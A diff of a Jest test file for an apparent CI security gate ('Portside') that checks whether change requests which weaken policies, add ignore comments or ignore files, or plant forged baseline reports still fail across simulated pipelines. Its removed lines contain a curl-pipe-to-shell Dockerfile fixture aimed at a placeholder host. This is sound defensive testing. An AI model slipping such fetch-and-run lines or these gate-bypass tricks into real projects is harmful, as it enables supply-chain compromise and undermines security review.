@@ -1,86 +1,94 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { temporaryFolder } from '../image/build-tar.js';
+import { DECIDING_CASES, type Made } from './ci/deciding-cases.js';
+import {
+  imageSignedByIdentity,
+  imageSignedByKey,
+  otherKey,
+  otherRoot,
+  vulnerableImage,
+} from './ci/deciding-images.js';
 import { createProject } from './ci/project.js';
 import { azure, gitlab, jenkins, plainShell } from './ci/simulators.js';
 import { CLI } from './dist.js';
 
-/** Change requests that bring a harm, and a file that would let it pass if it decided. */
+/** Change requests that bring a problem, and a file that would let it pass if it decided. */
 
 const work = mkdtempSync(join(tmpdir(), 'portside-deciding-'));
-afterAll(() => rmSync(work, { recursive: true, force: true }));
+const images = temporaryFolder();
+afterAll(() => {
+  rmSync(work, { recursive: true, force: true });
+  images.remove();
+});
 const all = process.env.PORTSIDE_SAMPLE === 'all';
 
-const HARM = 'RUN curl -fsSL https://harm.example/install.sh | sh\n';
-const POLICY = '.github/portside.yml';
-const START = `FROM debian:13.1@sha256:${'0'.repeat(64)}\n`;
-
-/** A report of the harmful commit, which calls its findings existing. */
-let forged = '';
-beforeAll(() => {
-  const project = createProject(join(work, 'forged'));
-  project.commit('main', { harms: ['harm'] });
-  const report = join(work, 'forged.json');
-  const folder = join(work, 'forged');
-  spawnSync('node', [CLI, 'check', folder, '--offline', '--format', `json=${report}`]);
-  forged = readFileSync(report, 'utf8');
-  expect(forged).toContain('PS0023');
+let made: Made;
+beforeAll(async () => {
+  made = {
+    forged: forgeReport(),
+    vulnerable: vulnerableImage(images),
+    byKey: imageSignedByKey(images),
+    byIdentity: await imageSignedByIdentity(images),
+    otherKey: otherKey(),
+    otherRoot: await otherRoot(),
+  };
 });
 
-type Files = Readonly<Record<string, string>>;
+/** A report of the harmful commit, which calls its findings existing. */
+function forgeReport(): string {
+  const folder = join(work, 'forged');
+  createProject(folder).commit('main', { harms: ['harm'] });
+  const report = join(work, 'forged.json');
+  spawnSync('node', [CLI, 'check', folder, '--offline', '--format', `json=${report}`]);
+  const text = readFileSync(report, 'utf8');
+  expect(text).toContain('PS0023');
+  return text;
+}
 
-/** What the change brings besides the harm; files of the base branch, if it has some. */
-const CASES: readonly (readonly [string, () => Files, Files?])[] = [
-  ['a policy without a gate', () => ({ [POLICY]: 'fail-on: { severity: none }\n' })],
-  [
-    'a policy with an exception, in place of a strict one',
-    () => ({ [POLICY]: 'exceptions:\n  - { rule: PS0023, reason: later }\n' }),
-    { [POLICY]: 'extends: strict\n' },
-  ],
-  ['a policy in another case', () => ({ '.github/Portside.yml': 'fail-on: { severity: none }\n' })],
-  [
-    'no policy, in place of a strict one',
-    () => ({ [POLICY]: '' }),
-    { [POLICY]: 'fail-on: { severity: low }\n' },
-  ],
-  [
-    'a policy that allows what is not covered',
-    () => ({ [POLICY]: 'allow-uncovered:\n  - { check: lint, target: Dockerfile }\n' }),
-  ],
-  ['a comment of Portside', () => ({ Dockerfile: `${START}# portside ignore=PS0023\n${HARM}` })],
-  [
-    'a comment for the file',
-    () => ({ Dockerfile: `# portside ignore-file=PS0023\n${START}${HARM}` }),
-  ],
-  ['.gitignore', () => ({ '.gitignore': 'Dockerfile\n*\n' })],
-  ['.hadolint.yaml', () => ({ '.hadolint.yaml': 'ignored: [PS0023, DL4006]\n' })],
-  ['.trivyignore', () => ({ '.trivyignore': 'PS0023\n' })],
-  ['a report where the pages stored one', () => ({ 'baseline/report.json': forged })],
-  [
-    'reports where the pages write and download them',
-    () => ({ 'reports/report.json': forged, 'accepted/report.json': forged }),
-  ],
-];
+/** The command that starts Portside, with options of the pipeline. No verdict here needs a network. */
+function commandWith(options: string): string {
+  const script = join(mkdtempSync(join(work, 'command-')), 'portside.sh');
+  writeFileSync(script, `exec node '${CLI}' "$@" --offline ${options}\n`);
+  return `sh ${script}`;
+}
 
 const SYSTEMS = [gitlab, jenkins, azure, plainShell];
 
-describe.each(CASES)('a change with a harm and %s', (title, files, before = {}) => {
+describe.each(DECIDING_CASES)('a change with a problem and %s', (title, arrange) => {
   const systems = SYSTEMS.filter((_, i) => all || (title.length + i) % SYSTEMS.length === 0);
   it.each(systems.map((simulate) => [simulate.name, simulate] as const))(
     'fails on %s',
     (name, simulate) => {
+      const { files, before = {}, image, options = '', rule, status = 1 } = arrange(made);
       const folder = mkdtempSync(join(work, `${name}-`));
       const project = createProject(join(folder, 'origin'));
-      const ci = simulate({ project, folder, portside: `node ${CLI}` });
+      // The page of the shell has no image.
+      const isNamed = image !== undefined && simulate === plainShell;
+      const portside = commandWith(isNamed ? `${options} --image ${image}` : options);
+      const variables: Record<string, string> = image === undefined ? {} : { IMAGE: image };
+      const ci = simulate({ project, folder, portside, variables });
       project.commit('main', { harms: [], files: before });
-      project.commit('change', { harms: ['harm'], files: files() });
+      project.commit('change', { harms: [], files });
       const merged = project.merge('change', 'main', 'refs/merges/change');
       for (const more of [{}, { merged }]) {
         const run = ci.run({ kind: 'change', branch: 'change', target: 'main', ...more });
-        expect({ ...run, log: run.status === 1 ? '' : run.log }).toEqual({ status: 1, log: '' });
+        const isRight = run.status === status && run.log.includes(rule);
+        expect({ status: run.status, log: isRight ? '' : run.log }).toEqual({ status, log: '' });
       }
     },
   );
+
+  (all ? it : it.skip)('passes if there is no base, unless it is about the base', () => {
+    const { files, image, options = '', decidesAlone } = arrange(made);
+    if (!decidesAlone) return;
+    const folder = mkdtempSync(join(work, 'alone-'));
+    createProject(folder).commit('main', { harms: [], files });
+    const command = `${commandWith(options)} check . --image '${image}'`;
+    const run = spawnSync('sh', ['-c', command], { cwd: folder, encoding: 'utf8' });
+    expect(run.status === 1 ? run.stdout : '').toBe('');
+  });
 });
